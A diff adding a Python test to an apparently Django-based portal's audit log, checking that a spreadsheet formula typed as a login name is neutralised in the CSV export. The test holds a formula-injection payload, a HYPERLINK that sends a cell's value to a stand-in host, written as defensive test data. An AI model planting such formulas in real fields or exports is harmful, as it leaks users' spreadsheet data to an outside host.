@@ -121,3 +121,16 @@ def test_publishing_and_workflow_decisions_are_recorded(portal_a, board_head, ed
         AuditEvent.objects.filter(action="unpublished").delete()
         Page.objects.get(pk=home.pk).specific.unpublish(user=board_head)
         assert AuditEvent.objects.filter(action="unpublished").exists()
+
+
+def test_a_formula_typed_as_a_user_name_arrives_in_the_csv_as_text(portal_a, board_head):
+    typed = '=HYPERLINK("http://evil.example/?c="&B2,"Mở")'
+    _browser, response = login(portal_a, typed, "SaiMatKhau123", ip="10.7.7.9")
+    assert response.status_code == 200  # the sign-in form again, with its error
+    assert events(portal_a, "login_failed", actor=typed)
+    head, _ = login(portal_a, "truongban")
+    response = head.get(AUDIT_URL, {"export": "csv", "action": "login_failed"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    failed = [row for row in rows[1:] if row[4] == "10.7.7.9"]
+    assert failed and failed[0][1] == "'" + typed and failed[0][3] == "'" + typed
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
